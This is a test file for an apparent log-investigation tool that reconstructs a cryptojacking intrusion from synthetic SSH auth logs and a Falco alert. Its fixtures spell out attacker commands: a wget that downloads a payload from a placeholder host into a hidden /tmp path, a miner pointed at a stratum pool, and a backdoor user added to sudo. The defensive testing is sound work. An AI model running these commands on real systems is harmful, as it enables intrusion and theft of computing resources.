import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { incidentSchema, type Incident } from '../src/model/incident.ts';
import { beewolf, temporaryFolder } from './cli/beewolf.ts';
import { violationsInText } from './contract.ts';

const host = 'build-server-03';
const office = '198.51.100.7';
const thief = '203.0.113.89';
const guesser = '203.0.113.200';
const key = 'SHA256:uNiVztksCsDhcc0u9e8BrVvTXoxfrCTSTOVfSSvH0mA';

const said = (time: string, program: string, text: string): string => `${time} ${host} ${program}: ${text}`;
const signedIn = (time: string, pid: number, address: string): string =>
  said(time, `sshd[${pid}]`, `Accepted publickey for devops from ${address} port 51022 ssh2: ED25519 ${key}`);
const ranAsRoot = (time: string, command: string): string =>
  said(time, 'sudo[1010]', `  devops : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=${command}`);

/** Three days of the owner's work, a door that is only rattled at, and who comes in with the owner's key. */
const before = [7, 8, 9].flatMap((day) => [
  signedIn(`Feb  ${day} 13:02:10`, 800 + day, office),
  ranAsRoot(`Feb  ${day} 13:05:10`, '/usr/bin/apt update'),
  said(`Feb  ${day} 17:05:10`, `sshd[${800 + day}]`, `Disconnected from user devops ${office} port 51022`),
]);
const rattling = Array.from({ length: 40 }, (_, minute) =>
  said(
    `Feb 10 12:${String(minute + 10)}:00`,
    `sshd[${900 + minute}]`,
    `Failed password for root from ${guesser} port ${50_000 + minute} ssh2`,
  ),
);
const intrusion = [
  signedIn('Feb 10 13:15:02', 1000, thief),
  said('Feb 10 13:15:02', 'sshd[1000]', 'pam_unix(sshd:session): session opened for user devops(uid=1000) by (uid=0)'),
  ranAsRoot('Feb 10 13:17:20', '/usr/bin/wget -q https://files.example.net/x -O /tmp/.systemd/systemd-update'),
  said(
    'Feb 10 13:18:01',
    'useradd[1012]',
    'new user: name=ubuntu-update, UID=1001, GID=1001, home=/home/u, shell=/bin/bash',
  ),
  said('Feb 10 13:18:20', 'usermod[1013]', "add 'ubuntu-update' to group 'sudo'"),
  said('Feb 10 13:21:00', 'crontab[1015]', '(root) REPLACE (root)'),
  ranAsRoot('Feb 10 13:30:00', '/tmp/.systemd/systemd-update -o stratum+tcp://pool.example.net:3333 --donate-level 1'),
];
/** What gives the year: the machine's sensor, under its whole name. */
const sensor = {
  output: 'Outbound connection to a miner pool',
  priority: 'Critical',
  rule: 'Detect outbound connections to common miner pool ports',
  source: 'syscall',
  time: '2024-02-10T13:35:00.123456789Z',
  hostname: `${host}.example.com`,
  output_fields: {
    'evt.type': 'execve',
    'proc.cmdline': 'systemd-update -o stratum+tcp://pool.example.net:3333',
    'proc.exepath': '/tmp/.systemd/systemd-update',
    'proc.name': 'systemd-update',
    'user.name': 'root',
  },
};

type Files = Readonly<Record<string, readonly string[]>>;
const whole: Files = { 'auth.log': [...before, ...rattling, ...intrusion], 'falco.json': [JSON.stringify(sensor)] };
const rotated: Files = {
  'auth.log': intrusion.slice(2),
  'auth.log.1': [...rattling.slice(7), ...intrusion.slice(0, 2)],
  'auth.log.2': [...before, ...rattling.slice(0, 7)],
  'falco.json': [JSON.stringify(sensor)],
};

/** The text of each incident, of logs that come in these runs. */
async function investigated(name: string, runs: readonly Files[]): Promise<readonly string[]> {
  const folder = join(temporaryFolder(), name);
  const out = join(folder, 'out');
  for (const [run, files] of runs.entries()) {
    const logs = join(folder, `logs-${run}`);
    mkdirSync(logs, { recursive: true });
    for (const [file, lines] of Object.entries(files)) writeFileSync(join(logs, file), `${lines.join('\n')}\n`);
    const ran = await beewolf(['investigate', logs, '-w', join(folder, 'case'), '--out', out, '--force'], {
      cwd: folder,
    });
    expect(ran.status, ran.stderr).toBe(0);
  }
  return readdirSync(out)
    .filter((entry) => entry !== 'summary.json')
    .toSorted()
    .map((uid) => readFileSync(join(out, uid, 'incident.json'), 'utf8'));
}

const told = (texts: readonly string[]): Incident => {
  expect(texts).toHaveLength(1);
  expect(violationsInText('incident', texts[0] ?? '')).toEqual([]);
  return incidentSchema.parse(JSON.parse(texts[0] ?? ''));
};

test('an intrusion into a machine is one incident: the door, what was done behind it, and nobody else', async () => {
  const incident = told(await investigated('whole', [whole]));
  expect(incident).toMatchObject({
    kind: 'cryptojacking',
    entry: { time: '2024-02-10T13:15:02Z', how: 'Accepted', address: thief },
    root: { credential: key, identity: { name: 'devops' } },
  });
  expect(incident.title).toBe(`Leaked key of devops ran a miner on ${host}`);
  expect(incident.detected_at).toBe('2024-02-10T13:35:00.123Z');
  expect(incident.alerts).toMatchObject([{ source: 'falco', verdict: 'supported' }]);
  const acts = incident.timeline.map(({ text }) => text).join('\n');
  for (const expected of ['wget', 'ubuntu-update', 'cron jobs', '--donate-level', 'systemd-update -o'])
    expect(acts).toContain(expected);
  expect(acts).not.toContain(office);
  expect(acts).not.toContain(guesser);
  expect(acts).not.toContain('apt update');
  expect(incident.persistence.map(({ target }) => target?.name)).toContain('ubuntu-update');
  const indicators = incident.indicators.map(({ type, value }) => `${type} ${value}`);
  for (const expected of [`ip ${thief}`, 'domain pool.example.net', 'port 3333', 'file /tmp/.systemd/systemd-update'])
    expect(indicators).toContain(expected);
  expect(incident.indicators.map(({ value }) => value)).not.toContain(guesser);
});

const asOlga = (time: string, command: string): string =>
  said(time, 'sudo[2010]', `    olga : TTY=pts/2 ; PWD=/home/olga ; USER=root ; COMMAND=${command}`);

test('commands of a colleague that end, delete and lock what the intruder left are containment, and nobody else’s are', async () => {
  const answers = [
    said(
      'Feb 10 15:00:00',
      'sshd[2000]',
      `Accepted publickey for olga from ${office} port 51040 ssh2: ED25519 SHA256:olga`,
    ),
    asOlga('Feb 10 15:01:00', '/usr/bin/pkill -9 -f systemd-update'),
    asOlga('Feb 10 15:02:00', '/usr/bin/crontab -r -u root'),
    asOlga('Feb 10 15:03:00', '/usr/bin/rm -rf /tmp/.systemd'),
    asOlga('Feb 10 15:04:00', '/usr/bin/passwd -l devops'),
    asOlga('Feb 10 15:05:00', '/usr/sbin/userdel -r ubuntu-update'),
    said('Feb 10 15:05:00', 'userdel[2015]', "delete user 'ubuntu-update'"),
    asOlga('Feb 10 15:06:00', '/usr/bin/systemctl stop nginx'),
    asOlga('Feb 10 15:07:00', '/usr/bin/rm -f /var/log/nginx/access.log.7'),
  ];
  const rival = ranAsRoot('Feb 10 13:28:00', '/usr/bin/rm -f /tmp/.systemd/systemd-update');
  const logs = { ...whole, 'auth.log': [...(whole['auth.log'] ?? []), rival, ...answers] };
  const incident = told(await investigated('answered', [logs]));
  expect(incident.containment.map(({ time, actor, does }) => [time.slice(11, 16), actor?.name ?? null, does])).toEqual([
    ['15:01', 'olga', 'removal'],
    ['15:02', 'olga', 'removal'],
    ['15:03', 'olga', 'removal'],
    ['15:04', 'olga', 'credentials'],
    ['15:05', expect.anything(), 'removal'],
  ]);
  expect(incident.containment.map(({ text }) => text)).toContain(`olga ran /usr/bin/passwd -l devops on ${host}`);
  expect(incident.last_seen < '2024-02-10T15:00:00Z').toBe(true);
});

test('rotated, and arriving the wrong way round in three runs, it is told alike', async () => {
  const {
    'auth.log': last = [],
    'auth.log.1': middle = [],
    'auth.log.2': first = [],
    'falco.json': sensed = [],
  } = rotated;
  const plain = await investigated('plain', [whole]);
  const parts = await investigated('parts', [
    { 'auth.log': last },
    { 'auth.log.1': middle, 'falco.json': sensed },
    { 'auth.log.2': first },
  ]);
  expect(parts).toEqual(plain);
});

test('who only rattled at the door is neither its beginning nor one of those to be cut off', async () => {
  const failed = (user: string, second: number): string =>
    said(
      `Feb 10 13:10:${String(second).padStart(2, '0')}`,
      `sshd[${1500 + second}]`,
      `Failed password for ${user} from ${thief} port ${40_000 + second} ssh2`,
    );
  const guessed = [
    ...Array.from({ length: 12 }, (_, second) => failed('root', second)),
    ...['postgres', 'invalid user <b>x</b>'].map((user, index) => failed(user, 12 + index)),
    said('Feb 10 13:12:00', 'sshd[1600]', `Accepted password for devops from ${thief} port 41000 ssh2`),
    ranAsRoot('Feb 10 13:30:00', '/tmp/x -o stratum+tcp://pool.example.net:3333 --donate-level 1'),
    failed('root', 59).replace('13:10', '13:40'),
  ];
  const incident = told(await investigated('guessed', [{ 'auth.log': guessed }]));
  expect(incident.root?.identity.name).toBe('devops');
  expect(incident.entry).toMatchObject({ how: 'Accepted' });
  expect(incident.identities.map(({ name }) => name)).toEqual(['devops']);
  expect(incident.timeline.filter(({ action }) => action === 'Failed').length).toBeGreaterThan(0);
});

test('two machines of which each has a root are two incidents, and what was run is told', async () => {
  const mined = (node: string, at: number): string =>
    [
      `${node}type=SYSCALL msg=audit(${at}.101:501): arch=c000003e syscall=59 success=yes exit=0 a0=1 ppid=12 pid=13 auid=0 uid=0 gid=0 euid=0 suid=0 tty=pts0 ses=31 comm="x" exe="/tmp/x" key="exec"`,
      `${node}type=EXECVE msg=audit(${at}.101:501): argc=3 a0="/tmp/x" a1="-o" a2="stratum+tcp://pool.example.net:3333"`,
    ].join('\n');
  const texts = await investigated('audited', [
    { 'a.log': [mined('node=a-1 ', 1707553020)], 'b.log': [mined('node=b-1 ', 1707853020)] },
  ]);
  const titles = texts.map((text) => incidentSchema.parse(JSON.parse(text)).title);
  expect(titles.toSorted()).toEqual([
    'Misused sign-in of root ran a miner on a-1',
    'Misused sign-in of root ran a miner on b-1',
  ]);
  const nameless = told(await investigated('nameless', [{ 'a.log': [mined('', 1707553020)] }]));
  expect(nameless).toMatchObject({
    kind: 'cryptojacking',
    title: 'Misused sign-in of root ran a miner on unnamed-machine',
  });
  expect(nameless.timeline[0]?.text).toBe('root ran /tmp/x -o stratum+tcp://pool.example.net:3333 on unnamed-machine');
});

test('what only an alert tells is no incident, but it is not said that nothing was found', async () => {
  const folder = temporaryFolder();
  const { 'proc.cmdline': _command, ...fields } = sensor.output_fields;
  writeFileSync(join(folder, 'falco.json'), JSON.stringify({ ...sensor, output_fields: fields }));
  const ran = await beewolf(['investigate', 'falco.json', '-w', 'case'], { cwd: folder });
  expect(ran.status, ran.stderr).toBe(0);
  expect(ran.stderr).toMatch(/no incident: \d findings of medium severity or graver, but none that begins one/);
});

test('a sensor that tells which process it was and as whom it ran tells an intrusion by itself', async () => {
  const incident = told(await investigated('sensed', [{ 'falco.json': [JSON.stringify(sensor)] }]));
  expect(incident).toMatchObject({
    kind: 'cryptojacking',
    title: `Programs of root ran a miner on ${host}.example.com`,
  });
  expect(incident.alerts).toMatchObject([{ source: 'falco', verdict: 'supported' }]);
});

test('who kills the miner afterwards is not held for one of the intruders', async () => {
  const cleaned = [
    ...intrusion,
    said(
      'Feb 10 15:20:00',
      'sshd[1930]',
      `Accepted publickey for admin from ${office} port 41022 ssh2: ED25519 SHA256:b`,
    ),
    ranAsRoot('Feb 10 15:21:00', '/usr/bin/pkill -f xmrig').replace('devops', 'admin'),
  ];
  const incident = told(await investigated('cleaned', [{ 'auth.log': cleaned }]));
  expect(incident.identities.map(({ name }) => name)).not.toContain('admin');
  expect(JSON.stringify(incident.recommendations)).not.toContain('SHA256:b"');
});
